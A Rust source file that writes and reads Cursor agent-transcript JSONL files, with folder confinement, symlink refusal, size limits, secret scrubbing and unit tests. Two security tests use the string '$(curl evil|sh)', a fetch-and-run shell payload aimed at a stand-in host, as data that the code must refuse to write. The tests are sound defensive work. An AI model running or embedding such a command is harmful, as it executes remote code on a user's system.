//! Cursor's agent transcripts for BYOK turns: `@`-mentioning a past chat and Cursor's history
//! search read `<agent_transcripts_folder>/<conversation>/<conversation>.jsonl`, one
//! `{"role", "message": {"content": [text | tool_use]}}` per line. For a run served here Cursor
//! writes only status lines there, so a turn that ended is appended in that format (never
//! mid-turn: rows would repeat or vanish), and a past chat is read back for the model.
//!
//! The line building and reading are pure; [`append`] and [`read`] are the thin IO, each one
//! blocking call off the runtime, so a write is whole or absent. Both touch only this user's
//! own transcripts folders, never following a link ([`TranscriptsDir`]): the folder is named
//! by the client, and any local process can be a client.

use std::io::{Read, Seek, SeekFrom, Write};
use std::path::Path;

use serde_json::{json, Value};

use crate::agent::state::StepRecord;
use crate::agent::user_files::TranscriptsDir;

/// A transcript file is not grown past this; a turn that would cross it is not written.
pub(crate) const MAX_FILE_BYTES: u64 = 8 * 1024 * 1024;
/// Each text in a line is capped to this many characters.
const MAX_TEXT_CHARS: usize = 16_000;
/// A tool call's input longer than this (as JSON) is replaced by a note.
const MAX_INPUT_CHARS: usize = 4_000;
/// What of a past chat reaches the model: its last this-many characters.
pub(crate) const MAX_PAST_CHAT_CHARS: usize = 60_000;
/// At most this much of a transcript file is read back (its end).
const MAX_READ_BYTES: u64 = 2 * 1024 * 1024;

/// The JSON lines of one ended turn: the user's message, then the answer's text and tool calls
/// in order. Thinking and our own notes to the model are not part of Cursor's transcript.
/// Secrets the process knows are scrubbed from every text.
pub(crate) fn turn_lines(user_text: &str, steps: &[StepRecord]) -> String {
    let mut out = String::new();
    let mut line = |role: &str, content: Vec<Value>| {
        if content.is_empty() {
            return;
        }
        let v = json!({ "role": role, "message": { "content": content } });
        out.push_str(&crate::base::secret::scrub(&v.to_string()));
        out.push('\n');
    };
    if !user_text.trim().is_empty() {
        line("user", vec![text_item(user_text)]);
    }
    let mut answer = Vec::new();
    for step in steps {
        match step {
            StepRecord::Assistant { text } if !text.trim().is_empty() => {
                answer.push(text_item(text))
            }
            StepRecord::ToolCall {
                name, arguments, ..
            } => {
                let input = if arguments.to_string().chars().count() > MAX_INPUT_CHARS {
                    json!({ "note": "input too long for the transcript" })
                } else {
                    arguments.clone()
                };
                answer.push(json!({ "type": "tool_use", "name": name, "input": input }));
            }
            _ => {}
        }
    }
    line("assistant", answer);
    out
}

fn text_item(text: &str) -> Value {
    json!({ "type": "text", "text": crate::agent::context::cap(text, MAX_TEXT_CHARS) })
}

/// `<conversation>.jsonl`, or `None` when the conversation id could name anything but one file
/// in one folder.
fn file_name(conversation: &str) -> Option<String> {
    let safe = !conversation.is_empty()
        && conversation.len() <= 128
        && conversation
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_');
    safe.then(|| format!("{conversation}.jsonl"))
}

/// What a transcript says, for the model: `User:` / `Assistant:` paragraphs, tool calls named,
/// lines that are not messages (Cursor's status lines) left out; the last
/// [`MAX_PAST_CHAT_CHARS`] characters when longer.
pub(crate) fn render(jsonl: &str) -> String {
    let mut out = String::new();
    for line in jsonl.lines() {
        let Ok(v) = serde_json::from_str::<Value>(line) else {
            continue;
        };
        let role = match v["role"].as_str() {
            Some("user") => "User",
            Some("assistant") => "Assistant",
            _ => continue,
        };
        let Some(content) = v["message"]["content"].as_array() else {
            continue;
        };
        let mut parts = Vec::new();
        for item in content {
            match item["type"].as_str() {
                Some("text") => {
                    if let Some(t) = item["text"].as_str().filter(|t| !t.trim().is_empty()) {
                        parts.push(t.trim().to_string());
                    }
                }
                Some("tool_use") => parts.push(format!(
                    "(used {})",
                    item["name"].as_str().unwrap_or("a tool")
                )),
                _ => {}
            }
        }
        if !parts.is_empty() {
            out.push_str(&format!("{role}: {}\n\n", parts.join("\n")));
        }
    }
    let out = out.trim_end();
    let n = out.chars().count();
    if n <= MAX_PAST_CHAT_CHARS {
        return out.to_string();
    }
    let tail: String = out.chars().skip(n - MAX_PAST_CHAT_CHARS).collect();
    format!("[earlier part left out]\n{tail}")
}

/// The client-named `folder` as this user's transcripts folder, or `None` (with a log line)
/// when it is anywhere else.
fn ours(home: &Path, folder: &str) -> Option<TranscriptsDir> {
    match TranscriptsDir::resolve(home, folder) {
        Ok(dir) => Some(dir),
        Err(e) => {
            tracing::warn!("transcripts are neither written nor read there: {e}");
            None
        }
    }
}

/// Appends `lines` to the conversation's transcript when `folder` is this user's
/// (`<home>/.cursor/projects/<project>/agent-transcripts`, see [`TranscriptsDir`]).
/// `Ok(false)`: not written (another folder, an unusable id, nothing to write, or the file
/// would grow past [`MAX_FILE_BYTES`]); an error: a link or a file not ours in the way.
pub async fn append(
    home: &Path,
    folder: &str,
    conversation: &str,
    lines: String,
) -> std::io::Result<bool> {
    let (Some(file), false) = (file_name(conversation), lines.is_empty()) else {
        return Ok(false);
    };
    let home = home.to_path_buf();
    let folder = folder.to_string();
    let conversation = conversation.to_string();
    // One blocking task, one write: it finishes even if the turn's task is dropped meanwhile.
    tokio::task::spawn_blocking(move || {
        let Some(dir) = ours(&home, &folder) else {
            return Ok(false);
        };
        let mut file = dir.open_append(&conversation, &file)?;
        let len = file.metadata()?.len();
        if len.saturating_add(lines.len() as u64) > MAX_FILE_BYTES {
            return Ok(false);
        }
        file.write_all(lines.as_bytes())?;
        Ok(true)
    })
    .await
    .map_err(std::io::Error::other)?
}

/// The transcript of `conversation` rendered for the model ([`render`]), if there is one
/// with messages in it, in this user's transcripts folder.
pub async fn read(home: &Path, folder: &str, conversation: &str) -> Option<String> {
    let file = file_name(conversation)?;
    let (home, folder, conversation) = (
        home.to_path_buf(),
        folder.to_string(),
        conversation.to_string(),
    );
    let text = tokio::task::spawn_blocking(move || -> std::io::Result<String> {
        let Some(dir) = ours(&home, &folder) else {
            return Ok(String::new());
        };
        let mut file = dir.open_read(&conversation, &file)?;
        let len = file.metadata()?.len();
        if len > MAX_READ_BYTES {
            file.seek(SeekFrom::Start(len - MAX_READ_BYTES))?;
        }
        let mut bytes = Vec::new();
        file.take(MAX_READ_BYTES).read_to_end(&mut bytes)?;
        Ok(String::from_utf8_lossy(&bytes).into_owned())
    })
    .await
    .ok()?
    .ok()?;
    Some(render(&text)).filter(|r| !r.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn steps() -> Vec<StepRecord> {
        vec![
            StepRecord::Thinking {
                text: "hmm".into(),
                duration_ms: 5,
                extra: None,
            },
            StepRecord::Assistant {
                text: "Let me look.".into(),
            },
            StepRecord::ToolCall {
                tool_call: Default::default(),
                call_id: "c1".into(),
                name: "read_file".into(),
                arguments: json!({"path": "a.rs"}),
                result: "fn main() {}".into(),
                is_error: false,
                extra: None,
            },
            StepRecord::UserContext {
                text: "a note to the model".into(),
            },
            StepRecord::Assistant {
                text: "It is empty.".into(),
            },
        ]
    }

    #[test]
    fn a_turn_is_two_lines_in_cursors_format() {
        let out = turn_lines("What is in a.rs?", &steps());
        let lines: Vec<Value> = out
            .lines()
            .map(|l| serde_json::from_str(l).expect("JSON"))
            .collect();
        assert_eq!(
            lines,
            [
                json!({"role":"user","message":{"content":[{"type":"text","text":"What is in a.rs?"}]}}),
                json!({"role":"assistant","message":{"content":[
                    {"type":"text","text":"Let me look."},
                    {"type":"tool_use","name":"read_file","input":{"path":"a.rs"}},
                    {"type":"text","text":"It is empty."},
                ]}}),
            ]
        );
        assert!(!out.contains("hmm") && !out.contains("a note to the model"));
    }

    #[test]
    fn long_texts_and_inputs_are_capped() {
        let big = "x".repeat(MAX_TEXT_CHARS * 2);
        let steps = vec![StepRecord::ToolCall {
            tool_call: Default::default(),
            call_id: "c".into(),
            name: "write".into(),
            arguments: json!({ "contents": big }),
            result: String::new(),
            is_error: false,
            extra: None,
        }];
        let out = turn_lines(&big, &steps);
        assert!(out.len() < MAX_TEXT_CHARS + 1_000, "{}", out.len());
        assert!(out.contains("input too long"));
    }

    #[test]
    fn file_names_stay_inside_the_folder() {
        assert_eq!(file_name("conv-1").as_deref(), Some("conv-1.jsonl"));
        for bad in ["", "..", "a/b", "../x", "a\\b", "a.b"] {
            assert_eq!(file_name(bad), None, "{bad}");
        }
    }

    #[test]
    fn render_reads_messages_and_skips_status_lines() {
        let text = format!(
            "{}\n{{\"type\":\"status\",\"text\":\"Running\"}}\nnot json\n{}",
            turn_lines("first question", &[]),
            turn_lines("", &steps())
        );
        assert_eq!(
            render(&text),
            "User: first question\n\nAssistant: Let me look.\n(used read_file)\nIt is empty."
        );
        let long = turn_lines(&"y".repeat(MAX_TEXT_CHARS), &[]).repeat(10);
        let r = render(&long);
        assert!(r.starts_with("[earlier part left out]"));
        assert!(r.chars().count() <= MAX_PAST_CHAT_CHARS + 30);
    }

    /// A home with Cursor's layout: the folder a client names, and the folder on disk.
    fn home() -> (tempfile::TempDir, String, std::path::PathBuf) {
        let home = tempfile::tempdir().expect("tempdir");
        let root = home.path().join(".cursor/projects/ws/agent-transcripts");
        let folder = root.to_str().expect("utf-8").to_string();
        (home, folder, root)
    }

    #[tokio::test]
    async fn append_keeps_existing_lines_and_reads_back() {
        let (home, folder, root) = home();
        let file = root.join("c1/c1.jsonl");
        std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
        std::fs::write(&file, "{\"cursor\":\"status\"}\n").expect("write");
        assert!(append(home.path(), &folder, "c1", turn_lines("hi", &[]))
            .await
            .expect("io"));
        let text = std::fs::read_to_string(&file).expect("read");
        assert!(text.starts_with("{\"cursor\":\"status\"}\n"));
        assert_eq!(text.lines().count(), 2);
        assert_eq!(
            read(home.path(), &folder, "c1").await.as_deref(),
            Some("User: hi")
        );
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn a_new_transcript_is_created_0600_under_cursors_layout() {
        use std::os::unix::fs::PermissionsExt;
        let (home, folder, root) = home();
        assert!(append(home.path(), &folder, "c1", turn_lines("hi", &[]))
            .await
            .expect("io"));
        let meta = std::fs::metadata(root.join("c1/c1.jsonl")).expect("written");
        assert_eq!(meta.permissions().mode() & 0o777, 0o600);
    }

    /// Attack: a folder elsewhere (another user's home, a shared tmp) is ignored: nothing is
    /// created or written there, and nothing is read from it.
    #[tokio::test]
    async fn a_folder_outside_this_users_projects_is_ignored() {
        let (home, _, _) = home();
        let elsewhere = tempfile::tempdir().expect("tempdir");
        std::fs::create_dir_all(elsewhere.path().join("c1")).expect("mkdir");
        let planted = elsewhere.path().join("c1/c1.jsonl");
        std::fs::write(&planted, turn_lines("planted", &[])).expect("write");
        let folder = elsewhere.path().to_str().expect("utf-8");
        assert!(!append(
            home.path(),
            folder,
            "c1",
            turn_lines("$(curl evil|sh)", &[])
        )
        .await
        .expect("io"));
        assert_eq!(
            std::fs::read_to_string(&planted).expect("read"),
            turn_lines("planted", &[])
        );
        assert_eq!(read(home.path(), folder, "c1").await, None);
        let theirs = elsewhere
            .path()
            .join(".cursor/projects/ws/agent-transcripts");
        let theirs = theirs.to_str().expect("utf-8");
        assert!(!append(home.path(), theirs, "c2", turn_lines("hi", &[]))
            .await
            .expect("io"));
        assert!(
            !elsewhere.path().join(".cursor").exists(),
            "nothing created"
        );
    }

    /// Attack: `<id>.jsonl` linked to a victim file, and a linked `<id>` folder.
    #[cfg(unix)]
    #[tokio::test]
    async fn links_in_the_transcripts_folder_leave_the_victim_unchanged() {
        use std::os::unix::fs::symlink;
        let (home, folder, root) = home();
        let victims = tempfile::tempdir().expect("tempdir");
        let victim = victims.path().join("c.jsonl");
        std::fs::write(&victim, "export PATH=/usr/bin\n").expect("write");
        std::fs::create_dir_all(root.join("c")).expect("mkdir");
        symlink(&victim, root.join("c/c.jsonl")).expect("symlink");
        symlink(victims.path(), root.join("d")).expect("symlink");
        let d_victim = victims.path().join("d.jsonl");
        std::fs::write(&d_victim, "keep\n").expect("write");
        for id in ["c", "d"] {
            let result = append(home.path(), &folder, id, turn_lines("$(curl evil|sh)", &[])).await;
            assert!(!matches!(result, Ok(true)), "{id}: {result:?}");
            assert_eq!(read(home.path(), &folder, id).await, None, "{id}");
        }
        assert_eq!(
            std::fs::read_to_string(&victim).expect("read"),
            "export PATH=/usr/bin\n"
        );
        assert_eq!(std::fs::read_to_string(&d_victim).expect("read"), "keep\n");
    }

    #[tokio::test]
    async fn the_file_is_bounded() {
        let (home, folder, root) = home();
        let file = root.join("c2/c2.jsonl");
        std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
        std::fs::write(&file, vec![b' '; MAX_FILE_BYTES as usize - 10]).expect("write");
        assert!(
            !append(home.path(), &folder, "c2", turn_lines("hello there", &[]))
                .await
                .expect("io")
        );
        assert_eq!(
            std::fs::metadata(&file).expect("meta").len(),
            MAX_FILE_BYTES - 10
        );
    }
}
